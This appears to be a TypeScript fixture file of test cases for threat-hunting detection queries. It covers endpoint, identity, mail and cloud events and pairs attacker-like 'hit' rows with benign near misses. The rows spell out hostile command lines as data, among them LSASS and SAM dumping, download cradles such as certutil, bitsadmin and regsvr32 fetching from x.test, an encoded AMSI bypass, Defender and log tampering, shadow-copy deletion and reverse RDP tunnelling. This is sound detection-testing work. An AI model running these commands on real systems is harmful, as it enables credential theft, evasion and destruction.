/** A row of a table: only the columns that matter. `at` is its minute in the case's own stretch of time (10 where absent); a {@link Minute} elsewhere is a time too. */
export type FixtureRow = Readonly<Record<string, unknown>> & { readonly at?: number };

/** A time, as minutes from the start of the case's stretch of time. */
export interface Minute {
  readonly minute: number;
}

/** What a query must find (the hit) and what it must leave alone (the near miss). */
export interface HuntingCase {
  readonly hunt: string;
  readonly events: Readonly<Record<string, readonly FixtureRow[]>>;
  readonly values?: Readonly<Record<string, unknown>>;
  /** The column to look at; default: DeviceName. */
  readonly column?: string;
  /** Its values in the rows found, sorted; default: one row, "hit". */
  readonly found?: readonly unknown[];
}

const minute = (count: number): Minute => ({ minute: count });
const on = (device: string): FixtureRow => ({ DeviceId: `id-${device}`, DeviceName: device });
const many = (count: number, row: (index: number) => FixtureRow): FixtureRow[] => Array.from({ length: count }, (_, index) => row(index));
const run = (device: string, FileName: string, ProcessCommandLine: string, more: FixtureRow = {}): FixtureRow => ({ ...on(device), ActionType: "ProcessCreated", FileName, ProcessCommandLine, ...more });
const event = (device: string, ActionType: string, fields: unknown, more: FixtureRow = {}): FixtureRow => ({ ...on(device), ActionType, AdditionalFields: JSON.stringify(fields), ...more });
const file = (device: string, FolderPath: string, more: FixtureRow = {}): FixtureRow => ({ ...on(device), ActionType: "FileCreated", FolderPath, FileName: FolderPath.split("\\").at(-1), ...more });
const by = (InitiatingProcessFileName: string): FixtureRow => ({ InitiatingProcessFileName });
/** A case over starts of processes: each row is device, file name, command line and further columns. */
const processes = (hunt: string, ...rows: readonly (readonly [string, string, string, FixtureRow?])[]): HuntingCase => ({ hunt, events: { DeviceProcessEvents: rows.map(([device, name, line, more]) => run(device, name, line, more)) } });
const utf16 = (script: string): string => Buffer.from(script, "utf16le").toString("base64");

const endpointCases: readonly HuntingCase[] = [
  { hunt: "lsass_access", events: { DeviceEvents: [
    event("hit", "OpenProcessApiCall", {}, { FileName: "lsass.exe", ...by("tool.exe") }), event("miss", "OpenProcessApiCall", {}, { FileName: "lsass.exe", ...by("msmpeng.exe") }),
    event("miss", "OpenProcessApiCall", {}, { FileName: "winword.exe", ...by("tool.exe") })] } },
  { hunt: "lsass_dumps", found: ["hit", "hit"], events: {
    DeviceProcessEvents: [run("hit", "rundll32.exe", "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\x.bin full"), run("miss", "procdump.exe", "procdump -ma notepad.exe"), run("miss", "findstr.exe", "findstr lsass log.txt")],
    DeviceFileEvents: [file("hit", "C:\\Temp\\lsass_1.dmp"), file("miss", "C:\\Temp\\lsass.txt")] } },
  processes("registry_hive_dumps", ["hit", "reg.exe", "reg save HKLM\\SAM C:\\x"], ["miss", "reg.exe", "reg save HKLM\\Software C:\\x"], ["miss", "reg.exe", "reg query HKLM\\SAM"]),
  processes("directory_database_theft", ["hit", "ntdsutil.exe", 'ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q'], ["miss", "ntdsutil.exe", "ntdsutil roles connections"], ["miss", "notepad.exe", "notepad ntds.dit.txt"]),
  { hunt: "browser_credential_theft", found: ["hit", "hit"], events: {
    DeviceProcessEvents: [run("hit", "cmd.exe", 'cmd /c copy "C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data" c:\\x'), run("miss", "chrome.exe", 'chrome --x "C:\\Users\\a\\User Data\\Login Data"'), run("miss", "cmd.exe", "cmd /c copy Cookies x")],
    DeviceFileEvents: [file("hit", "C:\\Temp\\Login Data", by("tool.exe")), file("miss", "C:\\Users\\a\\Chrome\\User Data\\Default\\Login Data", by("tool.exe"))] } },
  processes("credential_file_searches", ["hit", "findstr.exe", "findstr /si password *.xml"], ["miss", "findstr.exe", "findstr /si error *.log"], ["miss", "notepad.exe", "notepad password.txt"]),
  { hunt: "roasting_searches_on_devices", found: ["hit", "hit"], events: { DeviceEvents: [
    event("hit", "LdapSearch", { SearchFilter: "(&(samAccountType=805306368)(servicePrincipalName=*))" }), event("hit", "LdapSearch", { SearchFilter: "(userAccountControl:1.2.840.113556.1.4.803:=4194304)" }),
    event("miss", "LdapSearch", { SearchFilter: "(servicePrincipalName=HOST/pc1)" }), event("miss", "LdapSearch", { SearchFilter: "(userAccountControl:1.2.840.113556.1.4.803:=2)" })] } },
  processes("certutil_downloads", ["hit", "certutil.exe", "certutil -urlcache -f http://x.test/a.exe a.exe"], ["miss", "certutil.exe", "certutil -hashfile a.exe SHA256"]),
  processes("mshta_scripts", ["hit", "mshta.exe", "mshta https://x.test/a.hta"], ["miss", "mshta.exe", "mshta C:\\Tools\\menu.hta", by("explorer.exe")]),
  processes("regsvr32_scriptlets", ["hit", "regsvr32.exe", "regsvr32 /s /n /u /i:http://x.test/a.sct scrobj.dll"], ["miss", "regsvr32.exe", "regsvr32 /s C:\\Windows\\System32\\msxml3.dll"]),
  processes("rundll32_misuse", ["hit", "rundll32.exe", "rundll32 C:\\Users\\Public\\a.dll,Start"], ["miss", "rundll32.exe", "rundll32 C:\\Windows\\System32\\shell32.dll,Control_RunDLL"]),
  processes("bitsadmin_transfers", ["hit", "bitsadmin.exe", "bitsadmin /transfer j http://x.test/a c:\\a"], ["miss", "bitsadmin.exe", "bitsadmin /list"]),
  processes("developer_tool_misuse", ["hit", "msbuild.exe", "msbuild C:\\Users\\Public\\a.xml", by("cmd.exe")], ["miss", "msbuild.exe", "msbuild C:\\src\\app.csproj", by("cmd.exe")], ["miss", "msbuild.exe", "msbuild C:\\Users\\Public\\a.xml", by("devenv.exe")]),
  processes("office_child_processes", ["hit", "powershell.exe", "powershell -w hidden", by("WINWORD.EXE")], ["miss", "splwow64.exe", "splwow64 1", by("WINWORD.EXE")], ["miss", "cmd.exe", "cmd /c splwow64", by("excel.exe")]),
  processes("web_server_child_processes", ["hit", "whoami.exe", "whoami", by("w3wp.exe")], ["miss", "csc.exe", "csc /t:library", by("w3wp.exe")], ["miss", "whoami.exe", "whoami", by("cmd.exe")]),
  { hunt: "wmi_started_shells", values: { max_devices: 1 }, events: { DeviceProcessEvents: [
    run("hit", "cmd.exe", "cmd /Q /c whoami", by("wmiprvse.exe")), ...["miss1", "miss2"].map((name) => run(name, "cmd.exe", "cmd /c inventory.bat", by("WmiPrvSE.exe")))] } },
  processes("archived_scripts_run", ["hit", "wscript.exe", '"wscript.exe" "C:\\Users\\a\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.js"'], ["miss", "wscript.exe", "wscript C:\\Scripts\\logon.js"], ["miss", "wscript.exe", 'wscript "C:\\Users\\a\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.txt"']),
  processes("remote_service_execution", ["hit", "cmd.exe", "cmd", by("PSEXESVC.exe")], ["miss", "psexec.exe", "psexec -accepteula -s cmd", by("cmd.exe")]),
  { hunt: "rare_signed_programs", column: "SHA1", found: ["aa"], values: { max_devices: 1 }, events: {
    DeviceFileCertificateInfo: [{ SHA1: "aa", IsSigned: true, IsTrusted: true, IsRootSignerMicrosoft: false, Signer: "X" }, { SHA1: "bb", IsSigned: true, IsTrusted: true, IsRootSignerMicrosoft: true, Signer: "Microsoft" }, { SHA1: "cc", IsSigned: true, IsTrusted: true, IsRootSignerMicrosoft: false, Signer: "Y" }],
    DeviceProcessEvents: [run("a", "a.exe", "a", { SHA1: "aa" }), run("a", "b.exe", "b", { SHA1: "bb" }), run("a", "c.exe", "c", { SHA1: "cc" }), run("b", "c.exe", "c", { SHA1: "cc" })] } },
  { hunt: "new_services", events: { DeviceEvents: [event("hit", "ServiceInstalled", { ServiceName: "x" }, { FileName: "x.exe", FolderPath: "C:\\ProgramData\\x.exe" }), event("miss", "ServiceInstalled", { ServiceName: "y" }, { FileName: "y.exe", FolderPath: "C:\\Program Files\\Y\\y.exe" })] } },
  { hunt: "scheduled_tasks", found: ["hit", "hit"], events: {
    DeviceProcessEvents: [run("hit", "schtasks.exe", 'schtasks /create /tn "Up" /tr "powershell -enc AAAA" /sc minute'), run("miss", "schtasks.exe", "schtasks /query /tn powershell.exe")],
    DeviceEvents: [event("hit", "ScheduledTaskCreated", { TaskName: "\\Up", TaskContent: "<Exec><Command>C:\\Users\\a\\x.exe</Command></Exec>" }), event("miss", "ScheduledTaskCreated", { TaskName: "\\Vendor", TaskContent: "<Exec><Command>C:\\Program Files\\V\\v.exe</Command></Exec>" })] } },
  { hunt: "run_keys", events: { DeviceRegistryEvents: [
    { ...on("hit"), ActionType: "RegistryValueSet", RegistryKey: "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", RegistryValueName: "x", RegistryValueData: "powershell -w hidden" },
    { ...on("miss"), ActionType: "RegistryValueSet", RegistryKey: "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", RegistryValueName: "y", RegistryValueData: "C:\\Program Files\\Y\\y.exe" },
    { ...on("miss"), ActionType: "RegistryValueSet", RegistryKey: "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", RegistryValueName: "OneDrive", RegistryValueData: "C:\\Users\\a\\AppData\\Local\\OneDrive.exe" }] } },
  { hunt: "wmi_subscriptions", events: { DeviceEvents: [event("hit", "WmiBindEventFilterToConsumer", { Namespace: "root\\subscription", Consumer: "CommandLineEventConsumer=x" }), event("miss", "WmiBindEventFilterToConsumer", { Consumer: "NTEventLogEventConsumer=SCM Event Log Consumer" })] } },
  { hunt: "startup_folder_files", events: { DeviceFileEvents: [file("hit", "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk", by("powershell.exe")), file("miss", "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\y.lnk", by("explorer.exe")), file("miss", "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\y.lnk", by("powershell.exe"))] } },
  { hunt: "new_local_administrators", events: { DeviceEvents: [event("hit", "UserAccountCreated", {}, { at: 5, AccountSid: "S-1" }), event("hit", "UserAccountAddedToLocalGroup", { GroupSid: "S-1-5-32-544" }, { AccountSid: "S-1" }), event("miss", "UserAccountAddedToLocalGroup", { GroupSid: "S-1-5-32-545" }, { AccountSid: "S-2" })] } },
  { hunt: "defender_tampering", found: ["hit", "hit", "hit"], events: {
    DeviceEvents: [event("hit", "TamperingAttempt", { Status: "Blocked" }), event("miss", "AntivirusReport", {})],
    DeviceProcessEvents: [run("hit", "powershell.exe", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"), run("miss", "powershell.exe", "powershell Set-MpPreference -ScanScheduleDay 1"), run("miss", "sc.exe", "sc query WinDefend")],
    DeviceRegistryEvents: [{ ...on("hit"), ActionType: "RegistryValueSet", RegistryKey: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", RegistryValueName: "DisableAntiSpyware", RegistryValueData: "1" }, { ...on("miss"), ActionType: "RegistryValueSet", RegistryKey: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", RegistryValueName: "DisableAntiSpyware", RegistryValueData: "0" }] } },
  { hunt: "log_clearing", found: ["hit", "hit"], events: { DeviceEvents: [event("hit", "SecurityLogCleared", {})], DeviceProcessEvents: [run("hit", "wevtutil.exe", "wevtutil cl System"), run("miss", "wevtutil.exe", "wevtutil qe System /c:5")] } },
  processes("amsi_bypasses", ["hit", "powershell.exe", `powershell -enc ${utf16("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')")}`], ["miss", "powershell.exe", "powershell Get-Process amsinfo"]),
  processes("firewall_changes", ["hit", "netsh.exe", "netsh advfirewall set allprofiles state off"], ["miss", "netsh.exe", "netsh advfirewall show allprofiles"]),
  processes("misplaced_system_programs", ["hit", "svchost.exe", "svchost", { FolderPath: "C:\\Users\\a\\svchost.exe" }], ["miss", "svchost.exe", "svchost -k x", { FolderPath: "C:\\Windows\\System32\\svchost.exe" }]),
  processes("recovery_sabotage", ["hit", "vssadmin.exe", "vssadmin delete shadows /all /quiet"], ["miss", "vssadmin.exe", "vssadmin list shadows"], ["miss", "bcdedit.exe", "bcdedit /enum"]),
  { hunt: "mass_file_renames", values: { min_files: 5 }, events: { DeviceFileEvents: [
    ...many(5, (index) => file("hit", `C:\\Data\\f${index}.docx.lock`, { ActionType: "FileRenamed", PreviousFileName: `f${index}.docx` })), ...many(5, (index) => file("miss", `C:\\Data\\g${index}.docx`, { ActionType: "FileRenamed", PreviousFileName: `h${index}.docx` })),
    ...many(4, (index) => file("few", `C:\\Data\\f${index}.lock`, { ActionType: "FileRenamed", PreviousFileName: `f${index}.docx` }))] } },
  { hunt: "mass_file_deletions", values: { min_files: 5 }, events: { DeviceFileEvents: [...many(5, (index) => file("hit", `C:\\Data\\f${index}.docx`, { ActionType: "FileDeleted" })), ...many(9, (index) => file("miss", `C:\\Users\\a\\AppData\\Local\\Temp\\f${index}.docx`, { ActionType: "FileDeleted" })), ...many(4, (index) => file("few", `C:\\Data\\f${index}.pdf`, { ActionType: "FileDeleted" }))] } },
  { hunt: "service_stop_bursts", values: { min_stops: 4 }, events: { DeviceProcessEvents: [...many(4, (index) => run("hit", "net.exe", `net stop svc${index}`)), ...many(9, () => run("miss", "net.exe", "net stop spooler")), ...many(9, (index) => run("miss", "net.exe", `net start svc${index}`))] } },
  { hunt: "ransom_notes", values: { min_folders: 4 }, events: { DeviceFileEvents: [...many(4, (index) => file("hit", `C:\\d${index}\\HOW_TO_RESTORE.txt`)), ...many(9, (index) => file("miss", `C:\\d${index}\\README.txt`)), ...many(3, (index) => file("few", `C:\\d${index}\\note.txt`))] } },
  { hunt: "remote_access_tools", column: "FileName", found: ["AnyDesk.exe"], events: { DeviceProcessEvents: [run("a", "AnyDesk.exe", "anydesk"), run("a", "TeamViewer.exe", "teamviewer"), run("a", "mstsc.exe", "mstsc")] } },
  { hunt: "remote_desktop_tunnels", found: ["hit", "hit"], events: {
    DeviceProcessEvents: [run("hit", "plink.exe", "plink -R 3389:127.0.0.1:3389 x.test"), run("miss", "ssh.exe", "ssh admin@srv1")],
    DeviceNetworkEvents: [{ ...on("hit"), ActionType: "ConnectionSuccess", RemoteIP: "127.0.0.1", RemotePort: 3389, ...by("x.exe") }, { ...on("miss"), ActionType: "ConnectionSuccess", RemoteIP: "10.0.0.4", RemotePort: 3389, ...by("x.exe") }] } },
  { hunt: "tunnel_tools", found: ["hit", "hit"], values: { excluded_devices: ["dev"] }, events: {
    DeviceProcessEvents: [run("hit", "ngrok.exe", "ngrok tcp 3389"), run("dev", "ngrok.exe", "ngrok http 80"), run("miss", "code.exe", "code .")],
    DeviceNetworkEvents: [{ ...on("hit"), ActionType: "ConnectionSuccess", RemoteUrl: "x.trycloudflare.com", ...by("svc.exe") }, { ...on("miss"), ActionType: "ConnectionSuccess", RemoteUrl: "x.trycloudflare.com", ...by("chrome.exe") }] } },
  { hunt: "archive_then_upload", values: { minutes: 60 }, events: {
    DeviceProcessEvents: ["hit", "late", "web"].map((name) => run(name, "7z.exe", "7z.exe a -pX c:\\x.7z c:\\data")),
    DeviceNetworkEvents: [{ ...on("hit"), at: 30, ActionType: "ConnectionSuccess", RemoteUrl: "mega.nz", ...by("rclone.exe") }, { ...on("late"), at: 90, ActionType: "ConnectionSuccess", RemoteUrl: "mega.nz", ...by("rclone.exe") }, { ...on("web"), at: 30, ActionType: "ConnectionSuccess", RemoteUrl: "contoso.com", ...by("curl.exe") }] } },
  processes("cloud_copy_tools", ["hit", "svc.exe", "svc copy C:\\d r:x --config c.conf", { ProcessVersionInfoOriginalFileName: "rclone.exe" }], ["miss", "robocopy.exe", "robocopy a b"], ["miss", "rclone.exe", "rclone version"]),
  { hunt: "admin_share_drops", values: { excluded_addresses: ["10.0.0.9"] }, events: { DeviceFileEvents: [
    file("hit", "C:\\Windows\\x.exe", { RequestProtocol: "Smb", ShareName: "ADMIN$", RequestSourceIP: "10.0.0.5" }), file("deploy", "C:\\Windows\\y.exe", { RequestProtocol: "Smb", ShareName: "ADMIN$", RequestSourceIP: "10.0.0.9" }), file("miss", "D:\\Share\\z.exe", { RequestProtocol: "Smb", ShareName: "Share", RequestSourceIP: "10.0.0.5" })] } },
];

const signIn = (AccountUpn: string, more: FixtureRow = {}): FixtureRow => ({ AccountUpn, AccountObjectId: `id-${AccountUpn}`, ErrorCode: 0, IPAddress: "198.51.100.1", ...more });

const identityCases: readonly HuntingCase[] = [
  { hunt: "dcsync", events: { IdentityDirectoryEvents: [
    { at: -2000, DeviceName: "dc", ActionType: "Directory Services replication" }, { DeviceName: "dc", ActionType: "Directory Services replication" }, { DeviceName: "hit", ActionType: "Directory Services replication", AdditionalFields: { "ACTOR.ACCOUNT": "eve" } }, { DeviceName: "miss", ActionType: "Account Password changed" }] } },
  { hunt: "kerberoasting_queries", events: { IdentityQueryEvents: [{ DeviceName: "hit", ActionType: "LDAP query", Query: "Search Filter: (servicePrincipalName=*)" }, { DeviceName: "miss", ActionType: "LDAP query", Query: "(servicePrincipalName=HOST/a)" }] } },
  { hunt: "asrep_roasting_queries", events: { IdentityQueryEvents: [{ DeviceName: "hit", ActionType: "LDAP query", Query: "(userAccountControl:1.2.840.113556.1.4.803:=4194304)" }, { DeviceName: "miss", ActionType: "LDAP query", Query: "(userAccountControl:1.2.840.113556.1.4.803:=2)" }] } },
  { hunt: "directory_enumeration", values: { min_queries: 5 }, events: { IdentityQueryEvents: [...many(5, (index) => ({ DeviceName: "hit", ActionType: "SAMR query", QueryType: "QueryUser", QueryTarget: `u${index}` })), ...many(9, () => ({ DeviceName: "miss", ActionType: "SAMR query", QueryType: "QueryUser", QueryTarget: "u1" })), ...many(9, (index) => ({ DeviceName: "dns", ActionType: "DNS query", QueryTarget: `u${index}` }))] } },
  { hunt: "privileged_group_changes", events: { IdentityDirectoryEvents: [{ DeviceName: "hit", ActionType: "Group Membership changed", AdditionalFields: { "TO.GROUP": "Domain Admins" } }, { DeviceName: "miss", ActionType: "Group Membership changed", AdditionalFields: { "TO.GROUP": "Staff" } }, { DeviceName: "miss", ActionType: "Group Membership changed", AdditionalFields: { "FROM.GROUP": "Domain Admins" } }] } },
  { hunt: "domain_password_spray", values: { min_accounts: 5 }, events: { IdentityLogonEvents: [...many(5, (index) => ({ DeviceName: "hit", IPAddress: "10.0.0.1", ActionType: "LogonFailed", Application: "Active Directory", AccountName: `u${index}` })), ...many(9, () => ({ DeviceName: "miss", IPAddress: "10.0.0.2", ActionType: "LogonFailed", Application: "Active Directory", AccountName: "u1" }))] } },
  { hunt: "cloud_password_spray", column: "IPAddress", found: ["203.0.113.1"], values: { min_accounts: 5 }, events: { EntraIdSignInEvents: [...many(5, (index) => signIn(`u${index}`, { ErrorCode: 50126, IPAddress: "203.0.113.1" })), ...many(5, (index) => signIn(`u${index}`, { ErrorCode: 0, IPAddress: "203.0.113.2" })), ...many(9, () => signIn("u", { ErrorCode: 50126, IPAddress: "203.0.113.3" }))] } },
  { hunt: "impossible_travel", column: "AccountUpn", values: { hours: 2 }, events: { EntraIdSignInEvents: [signIn("hit", { Country: "DE", at: 10 }), signIn("hit", { Country: "BR", at: 60 }), signIn("slow", { Country: "DE", at: 10 }), signIn("slow", { Country: "BR", at: 400 }), signIn("home", { Country: "DE", at: 10 }), signIn("home", { Country: "DE", at: 20 })] } },
  { hunt: "session_reuse", column: "AccountUpn", events: { EntraIdSignInEvents: [signIn("hit", { SessionId: "s1", Country: "DE" }), signIn("hit", { SessionId: "s1", Country: "NL" }), signIn("miss", { SessionId: "s2", Country: "DE" }), signIn("miss", { SessionId: "s3", Country: "NL" }), signIn("gap", { SessionId: "s4", Country: "DE" }), signIn("gap", { SessionId: "s4" })] } },
  { hunt: "device_code_sign_ins", column: "AccountUpn", events: { EntraIdSignInEvents: [signIn("hit", { EndpointCall: "Cmsi:Cmsi", Application: "Microsoft Office" }), signIn("known", { EndpointCall: "Cmsi:Cmsi", EntraIdDeviceId: "d" }), signIn("miss", { EndpointCall: "OAuth2:Token" }), signIn("cli", { EndpointCall: "Cmsi:Cmsi", Application: "Microsoft Azure CLI" })] } },
  { hunt: "mfa_fatigue", column: "AccountUpn", values: { min_denials: 3 }, events: { EntraIdSignInEvents: [...many(3, (index) => signIn("hit", { ErrorCode: 500121, at: index })), signIn("hit", { at: 5 }), ...many(2, (index) => signIn("miss", { ErrorCode: 500121, at: index })), signIn("miss", { at: 5 })] } },
  { hunt: "legacy_sign_ins", column: "AccountUpn", events: { EntraIdSignInEvents: [signIn("hit", { ClientAppUsed: "IMAP4" }), signIn("miss", { ClientAppUsed: "Browser" }), signIn("failed", { ClientAppUsed: "IMAP4", ErrorCode: 50126 })] } },
  { hunt: "risky_sign_ins_after_clicks", column: "Account", found: ["hit@x.test"], events: {
    UrlClickEvents: ["Hit@x.test", "late@x.test", "same@x.test", "calm@x.test"].map((AccountUpn) => ({ AccountUpn, ActionType: "ClickAllowed", IPAddress: "198.51.100.9", Url: "https://a.test" })),
    EntraIdSignInEvents: [signIn("hit@x.test", { at: 20, RiskLevelDuringSignIn: 100 }), signIn("late@x.test", { at: 200, RiskLevelDuringSignIn: 100 }), signIn("same@x.test", { at: 20, RiskLevelDuringSignIn: 100, IPAddress: "198.51.100.9" }), signIn("calm@x.test", { at: 20, RiskLevelDuringSignIn: 0 })] } },
];

const mail = (id: string, more: FixtureRow = {}): FixtureRow => ({ NetworkMessageId: id, EmailDirection: "Inbound", DeliveryAction: "Delivered", RecipientEmailAddress: "a@x.test", SenderFromAddress: `${id}@out.test`, ...more });
const click = (id: string, more: FixtureRow = {}): FixtureRow => ({ NetworkMessageId: id, ActionType: "ClickAllowed", AccountUpn: "A@x.test", Workload: "Email", Url: "https://a.test", IsClickedThrough: false, ...more });
const mailCases: readonly HuntingCase[] = [
  { hunt: "qr_code_mails", column: "NetworkMessageId", events: { EmailEvents: [mail("hit"), mail("miss"), mail("out", { EmailDirection: "Outbound" })], EmailUrlInfo: [{ NetworkMessageId: "hit", UrlLocation: "QRCode", UrlDomain: "a.test" }, { NetworkMessageId: "miss", UrlLocation: "Body", UrlDomain: "a.test" }, { NetworkMessageId: "out", UrlLocation: "QRCode", UrlDomain: "a.test" }] } },
  { hunt: "html_attachments", column: "NetworkMessageId", events: { EmailEvents: [mail("hit"), mail("miss"), mail("blocked", { DeliveryAction: "Blocked" })], EmailAttachmentInfo: [{ NetworkMessageId: "hit", FileName: "Scan.SHTML" }, { NetworkMessageId: "miss", FileName: "html.pdf" }, { NetworkMessageId: "blocked", FileName: "a.htm" }] } },
  { hunt: "first_contact_clicks", column: "NetworkMessageId", events: { EmailEvents: [mail("hit", { IsFirstContact: true }), mail("miss", { IsFirstContact: false }), mail("blocked", { IsFirstContact: true })], UrlClickEvents: [click("hit"), click("miss"), click("blocked", { ActionType: "ClickBlocked" })] } },
  { hunt: "clicked_through_warnings", column: "NetworkMessageId", events: { UrlClickEvents: [click("hit", { IsClickedThrough: true, ActionType: "ClickBlocked" }), click("miss", { ActionType: "ClickBlocked" })] } },
  { hunt: "clicks_before_removal", column: "NetworkMessageId", events: { UrlClickEvents: [click("hit"), click("after", { at: 90 }), click("failed")], EmailPostDeliveryEvents: [{ at: 60, NetworkMessageId: "hit", ActionType: "Phish ZAP", ActionResult: "Success", RecipientEmailAddress: "a@x.test" }, { at: 60, NetworkMessageId: "after", ActionType: "Phish ZAP", ActionResult: "Success", RecipientEmailAddress: "a@x.test" }, { at: 60, NetworkMessageId: "failed", ActionType: "Phish ZAP", ActionResult: "Error", RecipientEmailAddress: "a@x.test" }] } },
  { hunt: "failed_mail_removals", column: "NetworkMessageId", events: { EmailEvents: [mail("hit")], EmailPostDeliveryEvents: [{ NetworkMessageId: "hit", ActionType: "Malware ZAP", ActionResult: "Error", RecipientEmailAddress: "a@x.test" }, { NetworkMessageId: "miss", ActionType: "Malware ZAP", ActionResult: "Success", RecipientEmailAddress: "a@x.test" }] } },
  { hunt: "mail_bombing", column: "RecipientEmailAddress", values: { min_senders: 5 }, events: { EmailEvents: [...many(5, (index) => mail(`m${index}`, { RecipientEmailAddress: "hit" })), ...many(9, () => mail("same", { RecipientEmailAddress: "miss" })), ...many(4, (index) => mail(`f${index}`, { RecipientEmailAddress: "few" }))] } },
];

const audit = (AccountDisplayName: string, ActionType: string, RawEventData: unknown, more: FixtureRow = {}): FixtureRow => ({ AccountDisplayName, AccountObjectId: `id-${AccountDisplayName}`, ActionType, RawEventData, ReportId: `r-${AccountDisplayName}`, ...more });
const settings = (values: Readonly<Record<string, string>>): unknown => ({ ObjectId: "box", Parameters: Object.entries(values).map(([Name, Value]) => ({ Name, Value })) });
const changes = (values: Readonly<Record<string, string>>): unknown => ({ ObjectId: "eve", ModifiedProperties: Object.entries(values).map(([Name, NewValue]) => ({ Name, NewValue })) });
const person = { column: "AccountDisplayName" };
const call = (ApplicationId: string, path: string, more: FixtureRow = {}): FixtureRow => ({ ApplicationId, RequestMethod: "GET", ResponseStatusCode: "200", RequestUri: `https://graph.microsoft.com/v1.0/${path}`, ...more });
const kinds = ["users", "groups", "servicePrincipals", "applications", "devices", "directoryRoles"];
const app = (AppName: string, more: FixtureRow): FixtureRow => ({ AppName, OAuthAppId: AppName, AppStatus: "Enabled", PrivilegeLevel: "High", AppOrigin: "External", AddedOnTime: minute(-1440), ...more });
const cloudCases: readonly HuntingCase[] = [
  { hunt: "inbox_rules", ...person, events: { CloudAppEvents: [audit("hit", "New-InboxRule", settings({ Name: ".", MoveToFolder: "RSS Feeds", SubjectContainsWords: "invoice" })), audit("miss", "New-InboxRule", settings({ Name: "News", MoveToFolder: "Newsletters" }))] } },
  { hunt: "mailbox_forwarding", ...person, events: { CloudAppEvents: [audit("hit", "Set-Mailbox", settings({ Identity: "box", ForwardingSmtpAddress: "smtp:eve@out.test" })), audit("miss", "Set-Mailbox", settings({ Identity: "box", ForwardingSmtpAddress: "" })), audit("other", "Set-Mailbox", settings({ AuditEnabled: "True" }))] } },
  { hunt: "mailbox_delegations", ...person, events: { CloudAppEvents: [audit("hit", "Add-MailboxPermission", settings({ Identity: "ceo", User: "eve", AccessRights: "FullAccess" })), audit("miss", "Add-MailboxPermission", settings({ Identity: "ceo", User: "NT AUTHORITY\\SELF", AccessRights: "FullAccess" })), audit("read", "Add-MailboxPermission", settings({ Identity: "ceo", User: "eve", AccessRights: "ReadPermission" }))] } },
  { hunt: "consent_grants", ...person, events: { CloudAppEvents: [audit("hit", "Consent to application.", changes({ "ConsentContext.IsAdminConsent": "False", "ConsentAction.Permissions": "[] => [[Scope: Mail.Read offline_access]]" })), audit("miss", "Consent to application.", changes({ "ConsentAction.Permissions": "[] => [[Scope: User.Read openid]]" }))] } },
  { hunt: "application_credentials", ...person, events: { CloudAppEvents: [audit("hit", "Update application – Certificates and secrets management ", {}), audit("miss", "Update application.", {})] } },
  { hunt: "privileged_role_assignments", ...person, events: { CloudAppEvents: [audit("hit", "Add member to role.", changes({ "Role.ObjectID": "1", "Role.DisplayName": '"Global Administrator"' })), audit("miss", "Add member to role.", changes({ "Role.DisplayName": "Directory Readers" })), audit("gone", "Remove member from role.", changes({ "Role.DisplayName": "Global Administrator" }))] } },
  { hunt: "mass_downloads", ...person, values: { min_files: 5 }, events: { CloudAppEvents: [...many(5, (index) => audit("hit", "FileDownloaded", {}, { ObjectName: `f${index}` })), ...many(9, () => audit("miss", "FileDownloaded", {}, { ObjectName: "same" })), ...many(9, (index) => audit("seen", "FileAccessed", {}, { ObjectName: `f${index}` }))] } },
  { hunt: "audit_switched_off", ...person, events: { CloudAppEvents: [audit("hit", "Set-AdminAuditLogConfig", settings({ UnifiedAuditLogIngestionEnabled: "False" })), audit("miss", "Set-AdminAuditLogConfig", settings({ UnifiedAuditLogIngestionEnabled: "True" }))] } },
  { hunt: "graph_enumeration", column: "ApplicationId", events: { GraphAPIAuditEvents: [...kinds.map((kind) => call("hit", `${kind}?$top=999`)), ...many(9, () => call("miss", "users?$top=999")), ...kinds.map((kind) => call("denied", kind, { ResponseStatusCode: "403" }))] } },
  { hunt: "graph_mailbox_reads", column: "ApplicationId", values: { min_mailboxes: 3, excluded_applications: ["backup"] }, events: { GraphAPIAuditEvents: [...many(3, (index) => call("hit", `users/u${index}@x.test/messages`)), ...many(9, () => call("miss", "users/u@x.test/messages")), ...many(9, (index) => call("backup", `users/u${index}/messages`)), ...many(9, (index) => call("names", `users/u${index}/manager`))] } },
  { hunt: "graph_denied_requests", column: "ApplicationId", values: { min_requests: 4 }, events: { GraphAPIAuditEvents: [...many(4, (index) => call("hit", `sites/s${index}`, { ResponseStatusCode: "403" })), ...many(9, (index) => call("repeat", `sites/s?x=${index}`, { ResponseStatusCode: "403" })), ...many(9, (index) => call("miss", `sites/s${index}`))] } },
  { hunt: "unused_privileged_apps", column: "AppName", found: ["hit", "never"], events: { OAuthAppInfo: [app("hit", { LastUsedTime: minute(-1440 * 200) }), app("never", {}), app("used", { LastUsedTime: minute(-1440) }), app("low", { PrivilegeLevel: "Low" }), app("off", { AppStatus: "Disabled" })] } },
  { hunt: "new_unverified_apps", column: "AppName", events: { OAuthAppInfo: [app("hit", { VerifiedPublisher: {} }), app("verified", { VerifiedPublisher: { displayName: "Contoso" } }), app("old", { AddedOnTime: minute(-1440 * 90) }), app("own", { AppOrigin: "Internal" })] } },
];

const evidence = (AlertId: string, device: string, more: FixtureRow = {}): FixtureRow => ({ AlertId, ...on(device), AccountSid: "S-1-5-21-9", AccountName: "eve", ...more });
const exposureCases: readonly HuntingCase[] = [
